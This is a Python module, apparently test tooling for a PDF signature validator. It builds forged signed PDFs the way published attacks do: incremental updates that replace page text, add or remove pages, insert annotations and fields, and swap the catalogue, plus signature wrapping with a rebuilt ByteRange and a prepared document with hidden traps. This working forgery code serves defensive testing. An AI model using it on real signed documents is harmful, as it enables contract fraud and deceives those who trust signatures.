"""How a signed PDF is forged: raw updates of a file, as the published attacks make them, without a library's help."""

from __future__ import annotations

import io
import re
from collections.abc import Mapping
from dataclasses import dataclass
from typing import Any

from pyhanko.pdf_utils.reader import PdfFileReader

OTHER_WORDS = b"BT /F1 24 Tf 40 120 Td (The holder hands everything over for 1 euro.) Tj ET"


@dataclass(frozen=True)
class Ranges:
    """What the last signature of a file covers: from 0 to `gap[0]`, and from `gap[1]` to the end."""

    gap: tuple[int, int]
    contents: bytes
    array: tuple[int, int]


def ranges(pdf: bytes) -> Ranges:
    found = list(re.finditer(rb"/ByteRange\s*\[\s*0\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", pdf))[-1]
    gap = int(found[1]), int(found[2])
    return Ranges(gap, pdf[slice(*gap)], found.span())


def last_table(pdf: bytes) -> int:
    return int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])


def trailer(pdf: bytes) -> dict[str, bytes]:
    """The entries of the last trailer that an update repeats."""
    text = pdf[pdf.rindex(b"trailer") :]
    return {
        key: match[1]
        for key, pattern in {"/Size": rb"/Size\s+(\d+)", "/Root": rb"/Root\s+(\d+ 0 R)"}.items()
        if (match := re.search(pattern, text))
    }


def update(
    pdf: bytes,
    objects: Mapping[int, bytes],
    *,
    table: bool = True,
    ending: bool = True,
    freed: tuple[int, ...] = (),
    root: bytes | None = None,
) -> bytes:
    """The file with an incremental update: each object as the bytes between `obj` and `endobj`. Without `table` there
    is only a trailer, without `ending` not even that."""
    known = trailer(pdf)
    body = io.BytesIO()
    body.write(pdf if pdf.endswith(b"\n") else pdf + b"\n")
    places = {}
    for number, content in objects.items():
        places[number] = body.tell()
        body.write(b"%d 0 obj\n%s\nendobj\n" % (number, content))
    start = body.tell()
    if table:
        body.write(b"xref\n0 1\n0000000000 65535 f \n")
        for number in sorted({*places, *freed}):
            entry = b"0000000000 00001 f \n" if number in freed else b"%010d 00000 n \n" % places[number]
            body.write(b"%d 1\n%s" % (number, entry))
    if ending:
        size = max([int(known["/Size"]), *(number + 1 for number in places)])
        told = (size, root or known["/Root"], last_table(pdf))
        body.write(b"trailer\n<</Size %d /Root %s /Prev %d>>\nstartxref\n" % told)
        body.write(b"%d\n%%%%EOF\n" % (start if table else last_table(pdf)))
    return body.getvalue()


def stream(content: bytes, more: bytes = b"") -> bytes:
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(content), more, content)


def reader(pdf: bytes) -> PdfFileReader:
    return PdfFileReader(io.BytesIO(pdf), strict=False)


def free_number(pdf: bytes) -> int:
    return int(trailer(pdf)["/Size"])


def written(value: Any) -> bytes:
    """An object of the file as it would be written again."""
    out = io.BytesIO()
    value.write_to_stream(out, None)
    return out.getvalue()


def page(pdf: bytes, number: int = 1) -> Any:
    """The page as the library's dictionary; its `container_ref.idnum` is its number."""
    return reader(pdf).root["/Pages"]["/Kids"][number - 1]


def with_entries(dictionary: Any, **entries: bytes) -> bytes:
    """The dictionary with these entries instead of its own."""
    kept = [(key, dictionary.raw_get(key)) for key in dictionary if key.removeprefix("/") not in entries]
    parts = [key.encode() + b" " + written(value) for key, value in kept]
    parts += [b"/" + key.encode() + b" " + value for key, value in entries.items()]
    return b"<<" + b" ".join(parts) + b">>"


def _references(dictionary: Any, key: str) -> bytes:
    if key not in dictionary:
        return b""
    held = dictionary[key]
    return b" ".join(b"%d 0 R" % held.raw_get(place).reference.idnum for place in range(len(held)))


def changed_page(pdf: bytes, number: int = 1, **how: bool) -> bytes:
    """An update that draws other words on a page."""
    content = page(pdf, number).raw_get("/Contents").reference.idnum
    return update(pdf, {content: stream(OTHER_WORDS)}, **how)  # type: ignore[arg-type]


def added_page(pdf: bytes) -> bytes:
    """An update with one more page at the end."""
    tree = reader(pdf).root["/Pages"]
    new, drawn = free_number(pdf), free_number(pdf) + 1
    kids = b" ".join(b"%d 0 R" % kid.reference.idnum for kid in map(tree["/Kids"].raw_get, range(len(tree["/Kids"]))))
    parent = tree.container_ref.idnum
    leaf = b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 300 300]/Contents %d 0 R>>" % (parent, drawn)
    grown = with_entries(tree, Kids=b"[%s %d 0 R]" % (kids, new), Count=b"%d" % (len(tree["/Kids"]) + 1))
    return update(pdf, {parent: grown, new: leaf, drawn: stream(OTHER_WORDS)})


def removed_page(pdf: bytes) -> bytes:
    tree = reader(pdf).root["/Pages"]
    first = tree["/Kids"].raw_get(0).reference.idnum
    return update(pdf, {tree.container_ref.idnum: with_entries(tree, Kids=b"[%d 0 R]" % first, Count=b"1")})


def annotated(pdf: bytes, annotation: bytes, number: int = 1) -> bytes:
    """An update that puts an annotation on a page."""
    leaf, new = page(pdf, number), free_number(pdf)
    changed = with_entries(leaf, Annots=b"[%s %d 0 R]" % (_references(leaf, "/Annots"), new))
    return update(pdf, {leaf.container_ref.idnum: changed, new: annotation})


def fielded(pdf: bytes, field: bytes) -> bytes:
    """An update with one more form field that is drawn on page 1."""
    form, leaf, new = reader(pdf).root["/AcroForm"], page(pdf), free_number(pdf)
    fields, refs = _references(form, "/Fields"), _references(leaf, "/Annots")
    return update(
        pdf,
        {
            form.container_ref.idnum: with_entries(form, Fields=b"[%s %d 0 R]" % (fields, new)),
            leaf.container_ref.idnum: with_entries(leaf, Annots=b"[%s %d 0 R]" % (refs, new)),
            new: field,
        },
    )


def rooted(pdf: bytes, **entries: bytes) -> bytes:
    """An update with other entries in the catalogue."""
    root: Any = reader(pdf).root
    return update(pdf, {root.container_ref.idnum: with_entries(root, **entries)})


def sibling(pdf: bytes) -> bytes:
    """Other words, and behind them a copy of the signature, as if it covered them."""
    form = reader(pdf).root["/AcroForm"]["/Fields"]
    signature = form[len(form) - 1].raw_get("/V").reference
    place = pdf.index(b"\n%d 0 obj" % signature.idnum) + 1
    body = pdf[pdf.index(b"obj", place) + 3 : pdf.index(b"endobj", place)].strip()
    content = page(pdf).raw_get("/Contents").reference.idnum
    return update(pdf, {content: stream(OTHER_WORDS), signature.idnum: body})


def wrapped(pdf: bytes) -> bytes:
    """Signature wrapping: what the second range covered moves to the end, and in its place come a table, a signature
    dictionary with the new range, and other words. The digest of what is covered stays right."""
    known, place = ranges(pdf), last_table(pdf)
    form = reader(pdf).root["/AcroForm"]["/Fields"]
    signature = form[len(form) - 1].raw_get("/V").reference.idnum
    content = page(pdf).raw_get("/Contents").reference.idnum
    tail = pdf[known.gap[1] :]
    old_table = pdf[place : pdf.index(b"trailer", place)]
    old_trailer = pdf[pdf.index(b"trailer", place) : pdf.index(b"startxref", place)]

    def built(second: int) -> bytes:
        head = pdf[: known.gap[1]] + b" " * (place - known.gap[1])
        room = len(old_table) + 60 + len(old_trailer)
        words = b"%d 0 obj\n%s\nendobj\n" % (content, stream(OTHER_WORDS))
        told = b"/Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [0 %d %d %d]"
        told %= (known.gap[0], second, len(tail))
        again = b"%d 0 obj\n<<%s /Contents %s>>\nendobj\n" % (signature, told, known.contents)
        at_words, at_again = place + room, place + room + len(words)
        table = re.sub(rb"\n\d{10} 00000 n \n$", b"\n%010d 00000 n \n" % at_again, old_table.rstrip(b"\n") + b"\n")
        table += b"%d 1\n%010d 00000 n \n" % (content, at_words)
        return head + (table + old_trailer).ljust(room) + words + again

    second = len(built(10_000))
    made = built(second)
    return made + tail


#: A document that was prepared before signing: each trap has its place in it.
def prepared(first: bytes = b"Pay 1,000 euros.") -> bytes:
    """A small form with traps: an overlay, a text field, a layer, an unused catalogue with a page of its own."""
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R/AcroForm 8 0 R/OCProperties<</OCGs[10 0 R]/D<</ON[10 0 R]/OFF[]>>>>>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R/Annots[7 0 R 9 0 R]"
        b"/Resources<</Font<</F1 5 0 R>>/XObject<</X1 6 0 R>>/Properties<</L 10 0 R>>>>>>",
        4: stream(b"BT /F1 18 Tf 20 200 Td (%s) Tj ET /OC /L BDC /X1 Do EMC" % first),
        5: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding 11 0 R>>",
        6: stream(b"1 g 20 90 200 40 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 300 300]"),
        7: b"<</Type/Annot/Subtype/Stamp/Rect[10 10 60 60]/Contents(Draft)>>",
        8: b"<</Fields[9 0 R]/SigFlags 3>>",
        9: b"<</FT/Tx/T(price)/V(1000)/Type/Annot/Subtype/Widget/Rect[20 150 90 170]/P 3 0 R>>",
        10: b"<</Type/OCG/Name(cover)>>",
        11: b"<</Type/Encoding/BaseEncoding/WinAnsiEncoding>>",
        12: b"<</Type/Catalog/Pages 13 0 R/AcroForm 8 0 R>>",
        13: b"<</Type/Pages/Kids[14 0 R]/Count 1>>",
        14: b"<</Type/Page/Parent 13 0 R/MediaBox[0 0 300 300]/Contents 15 0 R/Annots[9 0 R]>>",
        15: stream(OTHER_WORDS),
    }
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    places = {}
    for number, content in objects.items():
        places[number] = out.tell()
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, content))
    start = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % places[number] for number in sorted(places)))
    out.write(b"trailer\n<</Size %d /Root 1 0 R /ID[<01><01>]>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start))
    return out.getvalue()
